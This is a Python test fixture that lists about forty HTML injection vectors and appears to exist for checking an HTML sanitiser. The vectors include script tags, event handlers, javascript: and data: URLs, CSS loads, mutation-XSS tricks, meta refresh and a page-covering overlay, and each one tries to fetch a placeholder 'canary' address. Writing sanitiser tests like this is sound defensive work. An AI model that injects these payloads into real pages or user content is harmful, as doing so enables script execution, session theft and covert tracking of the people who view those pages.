"""HTML that tries to run, load or take something; `CANARY` is an address that must never be asked."""

CANARY = "http://canary.invalid"

VECTORS = [
    '<script>fetch("CANARY/a")</script>',
    '<script src="CANARY/b.js"></script>',
    '<img src="CANARY/c.png">',
    '<img src=x onerror="fetch(\'CANARY/d\')">',
    '<svg onload="fetch(\'CANARY/e\')"><image href="CANARY/e2.png"/></svg>',
    '<svg><script>fetch("CANARY/f")</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(\'CANARY/g\')&gt;">',
    '<iframe src="CANARY/h"></iframe><iframe srcdoc="&lt;script&gt;fetch(\'CANARY/h2\')&lt;/script&gt;"></iframe>',
    '<object data="CANARY/i"></object><embed src="CANARY/i2">',
    '<link rel="stylesheet" href="CANARY/j.css"><link rel="prefetch" href="CANARY/j2">'
    '<link rel="dns-prefetch" href="CANARY">',
    '<style>@import "CANARY/k.css"; body { background: url(CANARY/k.png) }</style>',
    '<p style="background-image: url(CANARY/l.png)">x</p>',
    '<p style="background: u\\72l(CANARY/m.png)">x</p>',
    '<p style="behavior:url(CANARY/n); -moz-binding:url(CANARY/n2)">x</p>',
    '<body background="CANARY/o.png" onload="fetch(\'CANARY/o2\')">x</body>',
    '<table background="CANARY/p.png"><tr><td background="CANARY/p2.png">x</td></tr></table>',
    '<video poster="CANARY/q.png" src="CANARY/q.mp4" autoplay></video><audio src="CANARY/q2.mp3" autoplay></audio>',
    '<picture><source srcset="CANARY/r.png"><img src="CANARY/r2.png" srcset="CANARY/r3.png 2x"></picture>',
    '<meta http-equiv="refresh" content="0; url=CANARY/s">',
    '<base href="CANARY/t/"><img src="relative.png"><a href="there">x</a>',
    '<form action="CANARY/u"><input autofocus onfocus="fetch(\'CANARY/u2\')"><button>x</button></form>',
    '<details open ontoggle="fetch(\'CANARY/v\')">x</details>',
    '<marquee onstart="fetch(\'CANARY/w\')">x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=fetch(\'CANARY/x\')>"></noscript>',
    '<template><img src=x onerror="fetch(\'CANARY/y\')"></template>',
    '<input type="image" src="CANARY/z.png"><isindex action="CANARY/z2">',
    '<a href="javascript:fetch(\'CANARY/aa\')" id="x">x</a>',
    '<a href="jav&#x09;ascript:fetch(\'CANARY/ab\')">x</a>'
    '<a href="data:text/html,<script>fetch(\'CANARY/ab2\')</script>">x',
    '<img src="javascript:fetch(\'CANARY/ac\')"><img lowsrc="CANARY/ac2" dynsrc="CANARY/ac3">',
    '<xmp><img src=x onerror="fetch(\'CANARY/ad\')"></xmp><plaintext><img src=x onerror="fetch(\'CANARY/ad2\')">',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div><p>x</p>',
    '<!--><img src=x onerror="fetch(\'CANARY/ae\')">--><![CDATA[<img src=x onerror="fetch(\'CANARY/ae2\')">]]>',
    '<select><noembed></select><script x=\'a@b\'a>fetch("CANARY/af")</script>',
    '<div id="1\n`"><img src=`x` onerror=`fetch("CANARY/ag")`>',
    '<img src="CANARY/ah.png" width="1" height="1" alt=""><img src="//canary.invalid/ah2">',
    '<frameset onload="fetch(\'CANARY/ai\')"><frame src="CANARY/ai2"></frameset>',
    '<p title="\u0301&quot; onmouseover=&quot;fetch(\'CANARY/aj\')">x</p>'
    '<p title="x"\u0301onclick="fetch(\'CANARY/aj2\')">',
    '<keygen autofocus onfocus="fetch(\'CANARY/ak\')"><button autofocus onfocus="fetch(\'CANARY/ak2\')">x</button>',
    '<a ping="CANARY/al" href="https://people.example/">x</a>',
    '<svg><use href="CANARY/am.svg#x"/><a xlink:href="javascript:fetch(\'CANARY/am2\')"><text>x</text></a></svg>',
]


def vectors(canary):
    return [vector.replace("CANARY", canary).replace("canary.invalid", canary.split("//")[1]) for vector in VECTORS]
